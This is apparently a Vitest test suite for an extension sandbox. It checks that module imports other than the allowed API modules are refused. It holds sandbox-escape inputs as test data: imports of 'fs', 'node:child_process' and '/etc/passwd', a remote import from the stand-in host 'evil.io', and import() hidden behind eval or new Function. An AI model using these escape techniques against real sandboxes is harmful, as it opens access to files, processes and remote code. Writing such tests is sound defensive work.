import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createArena, spec, type Arena } from './harness.js';

/** Only `directus:api` / `annex:api` may be imported, statically or dynamically. */
describe('sandbox attacks: module loading', () => {
  let arena: Arena;
  beforeAll(async () => {
    arena = await createArena();
  });
  afterAll(() => arena.close());
  afterEach(() => arena.assertStillServing());

  it.each([
    ['fs', `import fs from 'fs'; export default (r) => {};`],
    ['node:fs', `import { readFileSync } from 'node:fs'; export default (r) => {};`],
    ['node:child_process', `export * from 'node:child_process'; export default (r) => {};`],
    ['./relative.js', `import x from './relative.js'; export default (r) => {};`],
    ['/etc/passwd', `import x from '/etc/passwd'; export default (r) => {};`],
    [
      'data:text/javascript,export default 1',
      `import x from 'data:text/javascript,export default 1'; export default (r) => {};`,
    ],
    ['https://evil.io/x.js', `import 'https://evil.io/x.js'; export default (r) => {};`],
    ['isolated-vm', `import ivm from 'isolated-vm'; export default (r) => {};`],
    ['directus', `import { defineEndpoint } from 'directus'; export default (r) => {};`],
  ])('static import of %s fails at load with RT_IMPORT_DENIED naming it', async (specifier, code) => {
    const err = await arena.engine.load(spec(code)).then(
      () => null,
      (e) => e,
    );
    expect(err).toMatchObject({ code: 'RT_IMPORT_DENIED', details: expect.objectContaining({ specifier }) });
  });

  it.each([
    ['fs', `export default (router) => { router.get('/', async () => (await import('fs')).default); };`],
    [
      'node:child_process',
      `export default (router) => { router.get('/', () => import(/* hidden */ "node:child_process")); };`,
    ],
    [
      'data:text/javascript,export default 1',
      `export default (router) => { router.get('/', () => import('data:text/javascript,export default 1')); };`,
    ],
    [
      './chunk.js',
      `const later = () => import(\`./chunk.js\`); export default (router) => { router.get('/', later); };`,
    ],
    [
      'directus:api',
      `export default (router) => { router.get('/', async () => (await import('directus:api')).log('x')); };`,
    ],
  ])('dynamic import of %s fails at load with RT_IMPORT_DENIED naming it', async (specifier, code) => {
    const err = await arena.engine.load(spec(code)).then(
      () => null,
      (e) => e,
    );
    expect(err).toMatchObject({ code: 'RT_IMPORT_DENIED', details: { specifier, dynamic: true } });
    expect(err.message).toContain(`"${specifier}"`);
  });

  it.each([
    ['a computed specifier', `const name = ['f', 's'].join(''); return await import(name);`],
    ['import() through eval', `return await eval("import('node:child_process')");`],
    ['import() through new Function', `return await new Function("return import('fs')")();`],
  ])('dynamic import with %s fails the call with RT_IMPORT_DENIED', async (_name, body) => {
    const r = await arena.run(body);
    expect(r.code).toBe('RT_IMPORT_DENIED');
    expect(r.details).toMatchObject({ specifier: '(computed at run time)', dynamic: true });
  });

  it.each([
    ['a computed specifier', `const name = 'node:' + 'fs'; const m = await import(name)`],
    ['import() through eval', `const m = await eval("import('node:child_process')")`],
    ['import() through new Function', `const m = await new Function("return import('fs')")()`],
  ])('dynamic import with %s yields nothing to code that catches the refusal', async (_name, stmt) => {
    const r = await arena.run(
      `try { ${stmt}; return harm(m.default || m) === 'escaped' ? 'escaped' : 'imported'; } catch (e) { return 'refused'; }`,
    );
    expect(r.body).toBe('refused');
  });

  it('"import(" in strings, comments and regular expressions does not block loading', async () => {
    const inst = await arena.engine.load(
      spec(`// import('fs') in a comment
const s = "import('node:fs')"; /* import("x") */ const re = /import[(]'y'[)]/;
export default (router) => { router.get('/', () => ({ status: 200, body: [s, re.test("import('y')")] })); };`),
    );
    try {
      const res = (await inst.call(0, [{}], null)) as { body: unknown };
      expect(res.body).toEqual(["import('node:fs')", true]);
    } finally {
      await inst.dispose();
    }
  });

  it('an extension\'s own "Not supported" error keeps its code', async () => {
    const r = await arena.run(`throw new Error('Not supported');`);
    expect(r.code).toBe('RT_EXTENSION_ERROR');
  });

  it('a CommonJS bundle does not load (the module must be one ES module)', async () => {
    const err = await arena.engine.load(spec(`const fs = require('fs'); module.exports = (router) => {};`)).then(
      () => null,
      (e) => e,
    );
    expect(err?.code).toMatch(/^RT_(LOAD_FAILED|INVALID_EXPORT)$/);
  });
});
